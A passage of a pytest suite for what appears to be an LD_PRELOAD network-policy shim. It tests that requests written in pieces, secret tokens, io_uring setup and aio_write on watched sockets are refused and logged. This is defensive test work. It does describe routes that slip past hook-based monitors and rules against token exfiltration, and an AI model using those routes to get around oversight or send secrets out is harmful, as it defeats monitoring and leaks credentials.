    log = shim.tmp / "policy.log"
    argv = [PY, "-c", PIECES_CLIENT, str(raw_server.port), *args]
    if mode == "none":
        r = shim.run(argv, env=shim.base_env())
        text = ""
    elif mode == "locked":
        sysroot.write("/etc/ld.so.preload", f"{shim.lib}\n")
        sysroot.write("/etc/hfshim/rules.json", json.dumps({
            "version": 1, "locked": True, "offline": False, "log": {"destination": str(log)},
            "include": [str(shim.rules_dir / "token-hygiene.json")], "rules": [block]}))
        r = shim.run(sysroot.cmd(argv), env=sysroot.env(shim.base_env({"HFSHIM_LOG": ""})))
        text = log.read_text()
    else:
        rules = shim.write_rules({"version": 1, "include": [str(shim.rules_dir / "token-hygiene.json")],
                                  "rules": [block]})
        r = shim.run(argv, env=shim.preload_env({"HFSHIM_RULES": str(rules)}))
        text = r.log
    seen = {json.loads(line)["name"]: json.loads(line)["result"] for line in r.stdout.splitlines()}
    assert sorted(seen) == sorted(pieces), r
    assert seen["plain"].startswith("HTTP/1.1 200"), (seen, r)
    got = b"".join(raw_server.got)
    if mode == "none":
        assert all(v.startswith("HTTP/1.1 200") for v in seen.values()), seen
        assert b"/private" in got and TOKEN.encode() in got
        return
    assert b"/private" not in got and TOKEN.encode() not in got, (got, r)
    assert not any(seen[n].startswith("HTTP/1.1 200") for n in ("blocked-path", "blocked-line", "token")), seen
    assert text.count("refused a request written in pieces") >= 3, text
    assert TOKEN not in text


# -- io_uring through syscall() --------------------------------------------

URING = r"""
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 4, params)  # x86_64: SYS_io_uring_setup
print(fd if fd < 0 else "fd", errno.errorcode.get(ctypes.get_errno(), "0") if fd < 0 else "0")
"""


@pytest.mark.skipif(platform.machine() != "x86_64", reason="x86_64 system call numbers")
@pytest.mark.parametrize("mode", ["none", "default", "offline", "locked"])
def test_io_uring_setup_refused_offline_and_locked(shim, sysroot, mode):
    """io_uring's network operations are never judged: offline and under a
    locked policy, syscall(SYS_io_uring_setup) is refused with ENOSYS (what
    a kernel without io_uring says, so programs fall back) and a log line;
    under the default rules, as without the shim."""
    log = shim.tmp / "policy.log"
    if mode == "locked":
        sysroot.write("/etc/ld.so.preload", f"{shim.lib}\n")
        sysroot.write("/etc/hfshim/rules.json", json.dumps({"version": 1, "locked": True, "offline": False,
                                                            "log": {"destination": str(log)}}))
        r = shim.run(sysroot.cmd([PY, "-c", URING]), env=sysroot.env(shim.base_env({"HFSHIM_LOG": ""})))
        text = log.read_text()
    else:
        env = shim.base_env() if mode == "none" else shim.preload_env(
            {"HFSHIM_RULES": str(shim.rules_dir / f"{mode}.json")})
        r = shim.run([PY, "-c", URING], env=env)
        text = r.log
    baseline = shim.run([PY, "-c", URING], env=shim.base_env()).stdout
    if mode in ("none", "default"):
        assert r.stdout == baseline, r
        assert "io_uring" not in text, text
    else:
        assert r.stdout.split() == ["-1", "ENOSYS"], r
        assert "refused io_uring_setup" in text, text


AIO = r"""
import ctypes, errno, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
cb = ctypes.create_string_buffer(struct.pack("i", s.fileno()) + bytes(252))  # struct aiocb: aio_fildes first
for fn in ("aio_write", "aio_write64"):
    ctypes.set_errno(0)
    rc = getattr(libc, fn)(cb)
    print(fn, rc, errno.errorcode.get(ctypes.get_errno(), "0"))
"""


def test_aio_write_refused_on_watched_socket(shim, raw_server):
    """glibc's aio thread writes with its internal write, which no hook
    sees: aio_write on a watched socket is refused (EINVAL, a log line)
    before anything is queued."""
    r = shim.run([PY, "-c", AIO, str(raw_server.port)],
                 env=shim.preload_env({"HFSHIM_RULES": str(shim.rules_dir / "default.json")}))
    assert r.stdout.split("\n")[:2] == ["aio_write -1 EINVAL", "aio_write64 -1 EINVAL"], r
    assert r.log.count("refused aio_write") == 2, r
    assert raw_server.got == [], raw_server.got
